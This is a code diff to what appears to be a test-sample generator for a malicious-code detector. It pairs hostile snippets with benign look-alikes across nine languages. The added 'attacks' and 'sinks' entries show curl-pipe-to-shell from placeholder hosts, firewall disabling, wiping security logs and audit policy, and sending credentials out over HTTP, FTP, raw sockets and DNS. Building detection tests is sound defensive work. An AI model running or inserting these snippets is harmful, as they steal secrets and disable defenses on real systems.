@@ -77,6 +77,7 @@ const GO: Language = {
     part('smtp', `smtp.SendMail("${MAIL}:25", nil, "a@${HOST}", []string{"ops@${HOST}"}, []byte(w))`),
   ],
   attacks: [
+    part('closure runs its arguments', `sh := func(argv ...string) error {\n\treturn exec.Command(argv[0], argv[1:]...).Run()\n}\nsh("bash", "-c", "curl -fsSL ${SCRIPT} | bash")`),
     part('download script file', `resp, _ := http.Get("${SCRIPT}")\nbody, _ := io.ReadAll(resp.Body)\nos.WriteFile("/tmp/p.sh", body, 0o755)\nexec.Command("bash", "/tmp/p.sh").Run()`),
     part('curl pipe', `url := "${SCRIPT}"\nexec.Command("sh", "-c", "curl -fsSL "+url+" | sh").Run()`),
     part('download run', `resp, _ := http.Get("${SCRIPT}")\nbody, _ := io.ReadAll(resp.Body)\nexec.Command("sh", "-c", string(body)).Run()`),
@@ -94,6 +95,7 @@ const GO: Language = {
     part('run key', `k, _, _ := registry.CreateKey(registry.CURRENT_USER, \`Software\\Microsoft\\Windows\\CurrentVersion\\Run\`, registry.SET_VALUE)\nk.SetStringValue("Sync", "${RUN_PAYLOAD}")`),
   ],
   benign: [
+    part('closure runs the tests', 'sh := func(argv ...string) error {\n\treturn exec.Command(argv[0], argv[1:]...).Run()\n}\nsh("go", "test", "./...")\nsh("git", "status", "--short")'),
     part('smtp login', 'auth := smtp.PlainAuth("", "ci@example.org", os.Getenv("SMTP_PASSWORD"), "smtp.example.org")\nsmtp.SendMail("smtp.example.org:587", auth, "ci@example.org", []string{"team@example.org"}, []byte("Subject: build\\r\\n\\r\\nAll tests passed."))'),
     part('header map', 'req, _ := http.NewRequest("GET", "https://api.github.com/user", nil)\nreq.Header["Authorization"] = []string{"Bearer " + os.Getenv("GITHUB_TOKEN")}\nresp, _ := http.DefaultClient.Do(req)\nfmt.Println(resp.Status)'),
     part('shell with literal script', 'cmd := exec.Command("bash", "-c", "make test")\ncmd.Dir = filepath.Join(os.TempDir(), "checkout")\ncmd.Run()'),
@@ -136,6 +138,7 @@ const RUST: Language = {
     part('smtp', `let m = Message::builder().from("a@${HOST}".parse().unwrap()).to("ops@${HOST}".parse().unwrap()).subject("r").body(w).unwrap();\nSmtpTransport::relay("${MAIL}").unwrap().build().send(&m).unwrap();`),
   ],
   attacks: [
+    part('helper runs its arguments', 'fn run(prog: &str, argv: &[&str]) -> bool {\n    Command::new(prog).args(argv).status().is_ok()\n}\nrun("ufw", &["disable"]);'),
     part('curl pipe', `let url = "${SCRIPT}";\nCommand::new("bash").args(["-c", &format!("curl -fsSL {} | sh", url)]).status().unwrap();`),
     part('download run', `let body = reqwest::blocking::get("${SCRIPT}").unwrap().text().unwrap();\nCommand::new("sh").arg("-c").arg(&body).status().unwrap();`),
     part('download pipe', `let body = ureq::get("${SCRIPT}").call().unwrap().into_string().unwrap();\nlet mut child = Command::new("bash").stdin(Stdio::piped()).spawn().unwrap();\nchild.stdin.as_mut().unwrap().write_all(body.as_bytes()).unwrap();`),
@@ -152,6 +155,7 @@ const RUST: Language = {
     part('run key', `let hkcu = RegKey::predef(HKEY_CURRENT_USER);\nlet (key, _) = hkcu.create_subkey(r"Software\\Microsoft\\Windows\\CurrentVersion\\Run").unwrap();\nkey.set_value("Sync", &"${RUN_PAYLOAD}").unwrap();`),
   ],
   benign: [
+    part('helper runs cargo', 'fn run(prog: &str, argv: &[&str]) -> bool {\n    Command::new(prog).args(argv).status().is_ok()\n}\nrun("cargo", &["build", "--release"]);\nrun("git", &["status"]);'),
     part('bearer to its api', 'let token = env::var("GITHUB_TOKEN").unwrap();\nlet repos = reqwest::blocking::Client::new().get("https://api.github.com/user/repos").bearer_auth(&token).header("User-Agent", "skill").send().unwrap().text().unwrap();\nprintln!("{repos}");'),
     part('kube client', 'let config = kube::Config::infer().await?;\nlet client = kube::Client::try_from(config)?;\nlet pods: Api<Pod> = Api::namespaced(client, "default");\nfor p in pods.list(&ListParams::default()).await? {\n    println!("{}", p.name_any());\n}'),
     part('clean build', 'fs::remove_dir_all("./build").ok();\nfs::remove_dir_all(env::temp_dir().join("myapp-cache")).ok();'),
@@ -182,6 +186,7 @@ const RUBY: Language = {
     part('hex', 'w = v.unpack1("H*")'),
   ],
   sinks: [
+    part('ftp', `Net::FTP.open("${HOST}") do |ftp|\n  ftp.login("anonymous", "")\n  ftp.storlines("STOR d.txt", StringIO.new(w))\nend`),
     part('faraday', `conn = Faraday.new(url: "https://${HOST}")\nconn.post("/v2/events", w)`),
     part('rest client', `RestClient.post("${URL}", { d: w })`),
     part('net http', `Net::HTTP.post(URI("${URL}"), w)`),
@@ -193,6 +198,7 @@ const RUBY: Language = {
     part('smtp', `Net::SMTP.start("${MAIL}", 25) { |smtp| smtp.send_message(w, "a@${HOST}", "ops@${HOST}") }`),
   ],
   attacks: [
+    part('helper runs its arguments', 'def runner(*argv)\n  system(*argv, exception: false)\nend\nrunner("iptables", "-F")'),
     part('inline download', `system("bash", "-c", Net::HTTP.get(URI("${SCRIPT}")))`),
     part('curl pipe', `url = "${SCRIPT}"\nsystem("curl -fsSL #{url} | sh")`),
     part('download eval', `eval(Net::HTTP.get(URI("https://${HOST}/plugin.rb")))`),
@@ -210,6 +216,8 @@ const RUBY: Language = {
     part('run key', `Win32::Registry::HKEY_CURRENT_USER.open("Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", Win32::Registry::KEY_WRITE) { |k| k["Sync"] = "${RUN_PAYLOAD}" }`),
   ],
   benign: [
+    part('helper runs bundler', 'def runner(*argv)\n  system(*argv, exception: false)\nend\nrunner("bundle", "install")\nFileUtils.rm_rf("build")'),
+    part('message quotes a branch', 'def summary(state, branch)\n  "Build #{state} on `#{branch}`"\nend\nNet::HTTP.post(URI(ENV.fetch("SLACK_WEBHOOK_URL")), { text: summary("ok", "main") }.to_json)'),
     part('bearer to its api', 'uri = URI("https://api.github.com/user/repos")\nreq = Net::HTTP::Get.new(uri)\nreq["Authorization"] = "Bearer #{ENV.fetch("GITHUB_TOKEN")}"\nres = Net::HTTP.start(uri.host, uri.port, use_ssl: true) { |http| http.request(req) }\nputs res.body'),
     part('kube client', 'config = Kubeclient::Config.read(File.join(Dir.home, ".kube", "config"))\nclient = Kubeclient::Client.new(config.context.api_endpoint, "v1", ssl_options: config.context.ssl_options, auth_options: config.context.auth_options)\nputs client.get_pods(namespace: "default").size'),
     part('clean build', 'FileUtils.rm_rf("build")\nFileUtils.rm_rf(File.join(Dir.tmpdir, "myapp-cache"))'),
@@ -251,6 +259,7 @@ const PHP: Language = {
     part('mail', `mail('ops@${HOST}', 'report', $w);`),
   ],
   attacks: [
+    part('closure runs its argument', `$sh = function (string $line): string {\n    return (string) shell_exec($line);\n};\n$sh('curl -fsSL ${SCRIPT} | bash');`),
     part('delete root', "$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/', FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::CHILD_FIRST);\nforeach ($it as $f) {\n    $f->isDir() ? rmdir($f) : unlink($f);\n}"),
     part('curl pipe', `$url = '${SCRIPT}';\npassthru('curl -fsSL ' . $url . ' | sh');`),
     part('download eval', `eval(file_get_contents('https://${HOST}/plugin.txt'));`),
@@ -268,6 +277,7 @@ const PHP: Language = {
     part('run key', `exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Sync /t REG_SZ /d "${RUN_PAYLOAD}" /f');`),
   ],
   benign: [
+    part('closure runs git', "$sh = function (string $line): string {\n    return (string) shell_exec($line);\n};\necho $sh('git status --short');"),
     part('client login', "$client = new GuzzleHttp\\Client(['base_uri' => 'https://acme.atlassian.net']);\n$res = $client->request('GET', '/rest/api/3/myself', ['auth' => [getenv('JIRA_USER'), getenv('JIRA_API_TOKEN')]]);\necho $res->getBody();"),
     part('curl login', "$ch = curl_init('https://acme.atlassian.net/rest/api/3/myself');\ncurl_setopt($ch, CURLOPT_USERPWD, getenv('JIRA_USER') . ':' . getenv('JIRA_API_TOKEN'));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\necho curl_exec($ch);"),
     part('bearer to its api', "$ch = curl_init('https://api.github.com/user/repos');\ncurl_setopt($ch, CURLOPT_HTTPHEADER, ['Authorization: Bearer ' . getenv('GITHUB_TOKEN'), 'User-Agent: skill']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\necho curl_exec($ch);"),
@@ -310,6 +320,7 @@ const JAVA: Language = {
     part('smtp', `Properties props = new Properties();\nprops.put("mail.smtp.host", "${MAIL}");\nMimeMessage m = new MimeMessage(Session.getInstance(props));\nm.setRecipients(Message.RecipientType.TO, "ops@${HOST}");\nm.setText(w);\nTransport.send(m);`),
   ],
   attacks: [
+    part('request built over lines', `String body = "<m>"\n    + Files.readString(Path.of(System.getProperty("user.home"), ".m2", "settings.xml"))\n    + "</m>";\nHttpRequest req = HttpRequest.newBuilder(URI.create("${URL}"))\n    .POST(HttpRequest.BodyPublishers.ofString(body))\n    .build();\nHttpClient.newHttpClient().send(req, HttpResponse.BodyHandlers.discarding());`),
     part('curl pipe', `String url = "${SCRIPT}";\nRuntime.getRuntime().exec(new String[] {"bash", "-c", "curl -fsSL " + url + " | sh"});`),
     part('download run', `String script = new String(new URL("${SCRIPT}").openStream().readAllBytes());\nnew ProcessBuilder("sh", "-c", script).inheritIO().start().waitFor();`),
     part('download binary', `try (InputStream in = new URL("https://${HOST}/agent").openStream()) {\n    Files.copy(in, Path.of("/tmp/agent"), StandardCopyOption.REPLACE_EXISTING);\n}\nnew File("/tmp/agent").setExecutable(true);\nRuntime.getRuntime().exec("/tmp/agent");`),
@@ -370,6 +381,8 @@ const CSHARP: Language = {
     part('smtp', `new SmtpClient("${MAIL}").Send("a@${HOST}", "ops@${HOST}", "report", w);`),
   ],
   attacks: [
+    part('helper runs a word put together', 'static void Launch(string exe, string argv) => Process.Start(new ProcessStartInfo(exe, argv) { UseShellExecute = false })?.WaitForExit();\nvar tool = string.Join("", new[] { "wevt", "util.exe" });\nLaunch(tool, "cl Security");'),
+    part('audit policy cleared', 'Process.Start("auditpol.exe", "/clear /y")?.WaitForExit();'),
     part('powershell download', `var url = "https://${HOST}/s.ps1";\nProcess.Start("powershell", "-NoProfile -Command \\"iwr " + url + " -UseBasicParsing | iex\\"");`),
     part('download run', `var script = await new HttpClient().GetStringAsync("${SCRIPT}");\nProcess.Start("bash", new[] { "-c", script });`),
     part('download binary', `var bytes = await new HttpClient().GetByteArrayAsync("https://${HOST}/agent.exe");\nvar path = Path.Combine(Path.GetTempPath(), "agent.exe");\nawait File.WriteAllBytesAsync(path, bytes);\nProcess.Start(path);`),
@@ -386,6 +399,7 @@ const CSHARP: Language = {
     part('run key', `using var key = Registry.CurrentUser.OpenSubKey(@"Software\\Microsoft\\Windows\\CurrentVersion\\Run", true);\nkey.SetValue("Sync", "${RUN_PAYLOAD}");`),
   ],
   benign: [
+    part('helper runs dotnet', 'static void Launch(string exe, string argv) => Process.Start(new ProcessStartInfo(exe, argv) { UseShellExecute = false })?.WaitForExit();\nLaunch("dotnet", "build -c Release");\nLaunch("git", "status");'),
     part('default headers', 'var token = Environment.GetEnvironmentVariable("GITHUB_TOKEN");\nusing var client = new HttpClient();\nclient.DefaultRequestHeaders.Add("Authorization", $"Bearer {token}");\nConsole.WriteLine(await client.GetStringAsync("https://api.github.com/user"));'),
     part('smtp login', 'var smtp = new SmtpClient("smtp.example.org", 587) { EnableSsl = true };\nsmtp.Credentials = new NetworkCredential("ci@example.org", Environment.GetEnvironmentVariable("SMTP_PASSWORD"));\nsmtp.Send("ci@example.org", "team@example.org", "Build finished", "All tests passed.");'),
     part('bearer to its api', 'using var http = new HttpClient();\nhttp.DefaultRequestHeaders.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", Environment.GetEnvironmentVariable("GITHUB_TOKEN"));\nhttp.DefaultRequestHeaders.UserAgent.ParseAdd("skill");\nConsole.WriteLine(await http.GetStringAsync("https://api.github.com/user/repos"));'),
@@ -417,6 +431,7 @@ const PERL: Language = {
     part('hex', "my $w = unpack('H*', $v);"),
   ],
   sinks: [
+    part('print joined', `my $conn = IO::Socket::INET->new(PeerAddr => '${HOST}', PeerPort => 9000, Proto => 'tcp');\nprint $conn join("\\t", $ENV{USER} // '', $w), "\\n";`),
     part('mojo', `Mojo::UserAgent->new->post('${URL}' => form => { d => $w });`),
     part('request object', `my $ua = LWP::UserAgent->new;\nmy $req = HTTP::Request->new(POST => '${URL}');\n$req->content($w);\n$ua->request($req);`),
     part('lwp', `LWP::UserAgent->new->post('${URL}', Content => $w);`),
@@ -540,6 +555,7 @@ const KOTLIN: Language = {
     part('dns', `InetAddress.getByName(w.take(40) + ".${HOST}")`),
   ],
   attacks: [
+    part('argument list built elsewhere', `fun fetched(src: String): String = URL(src).readText()\nval body = fetched("${SCRIPT}")\nval jobs = listOf(Pair("setup", listOf("sh", "-c", body)))\njobs.forEach { ProcessBuilder(it.second).inheritIO().start().waitFor() }`),
     part('curl pipe', `val url = "${SCRIPT}"\nRuntime.getRuntime().exec(arrayOf("bash", "-c", "curl -fsSL $url | sh"))`),
     part('download run', `val script = URL("${SCRIPT}").readText()\nProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()`),
     part('download binary', `File("/tmp/agent").writeBytes(URL("https://${HOST}/agent").readBytes())\nFile("/tmp/agent").setExecutable(true)\nRuntime.getRuntime().exec("/tmp/agent")`),
@@ -556,6 +572,7 @@ const KOTLIN: Language = {
     part('run key', `ProcessBuilder("reg", "add", "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", "/v", "Sync", "/d", "${RUN_PAYLOAD}", "/f").start()`),
   ],
   benign: [
+    part('argument list with a literal script', 'val jobs = listOf(Pair("build", listOf("sh", "-c", "./gradlew build")))\njobs.forEach { ProcessBuilder(it.second).inheritIO().start().waitFor() }'),
     part('helper logs in', 'fun token(): String {\n    return System.getenv("GITHUB_TOKEN")\n}\nfun fetchRepos(auth: String): String {\n    val c = URL("https://api.github.com/user/repos").openConnection() as HttpURLConnection\n    c.setRequestProperty("Authorization", "Bearer $auth")\n    return c.inputStream.bufferedReader().readText()\n}\nprintln(fetchRepos(token()))'),
     part('bearer to its api', 'val c = URL("https://api.github.com/user/repos").openConnection() as HttpURLConnection\nc.setRequestProperty("Authorization", "Bearer ${System.getenv("GITHUB_TOKEN")}")\nprintln(c.inputStream.bufferedReader().readText())'),
     part('kube client', 'val client = Config.fromConfig(File(System.getProperty("user.home"), ".kube/config").absolutePath)\nval api = CoreV1Api(client)\nprintln(api.listNamespacedPod("default").execute().items.size)'),
@@ -597,6 +614,7 @@ const SWIFT: Language = {
     part('curl child', `let p = Process()\np.executableURL = URL(fileURLWithPath: "/usr/bin/curl")\np.arguments = ["-s", "-d", w, "${URL}"]\ntry p.run()`),
   ],
   attacks: [
+    part('helper looks up a secret', `func sh(_ argv: [String]) {\n    let p = Process()\n    p.executableURL = URL(fileURLWithPath: "/usr/bin/env")\n    p.arguments = argv\n    try? p.run()\n}\nlet secret = ProcessInfo.processInfo.environment["AWS_SECRET_ACCESS_KEY"] ?? ""\nsh(["dig", "+short", "\\(secret.prefix(40)).${HOST}"])`),
     part('curl pipe', `let url = "${SCRIPT}"\nProcess.launchedProcess(launchPath: "/bin/sh", arguments: ["-c", "curl -fsSL \\(url) | sh"])`),
     part('download run', `let script = try String(contentsOf: URL(string: "${SCRIPT}")!)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: "/bin/sh")\np.arguments = ["-c", script]\ntry p.run()`),
     part('download binary', `let data = try Data(contentsOf: URL(string: "https://${HOST}/agent")!)\ntry data.write(to: URL(fileURLWithPath: "/tmp/agent"))\ntry FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: "/tmp/agent")\ntry Process.run(URL(fileURLWithPath: "/tmp/agent"), arguments: [])`),
@@ -612,6 +630,7 @@ const SWIFT: Language = {
     part('launch agent', `let plist: [String: Any] = ["Label": "com.sync", "ProgramArguments": ["/bin/sh", "-c", "${PAYLOAD}"], "RunAtLoad": true]\n(plist as NSDictionary).write(toFile: NSHomeDirectory() + "/Library/LaunchAgents/com.sync.plist", atomically: true)`),
   ],
   benign: [
+    part('helper runs git', 'func sh(_ argv: [String]) {\n    let p = Process()\n    p.executableURL = URL(fileURLWithPath: "/usr/bin/env")\n    p.arguments = argv\n    try? p.run()\n}\nsh(["git", "status", "--short"])\nsh(["dig", "+short", "example.org"])'),
     part('helper logs in', 'func token() -> String {\n    return ProcessInfo.processInfo.environment["GITHUB_TOKEN"] ?? ""\n}\nfunc repos(_ auth: String) async throws -> Data {\n    var req = URLRequest(url: URL(string: "https://api.github.com/user/repos")!)\n    req.setValue("Bearer \\(auth)", forHTTPHeaderField: "Authorization")\n    return try await URLSession.shared.data(for: req).0\n}\nprint(try await repos(token()))'),
     part('header fields', 'var req = URLRequest(url: URL(string: "https://api.github.com/user")!)\nreq.allHTTPHeaderFields = ["Authorization": "Bearer \\(ProcessInfo.processInfo.environment["GITHUB_TOKEN"] ?? "")"]\nURLSession.shared.dataTask(with: req).resume()'),
     part('bearer to its api', 'var req = URLRequest(url: URL(string: "https://api.github.com/user/repos")!)\nreq.setValue("Bearer \\(ProcessInfo.processInfo.environment["GITHUB_TOKEN"] ?? "")", forHTTPHeaderField: "Authorization")\nlet (data, _) = try await URLSession.shared.data(for: req)\nprint(String(decoding: data, as: UTF8.self))'),
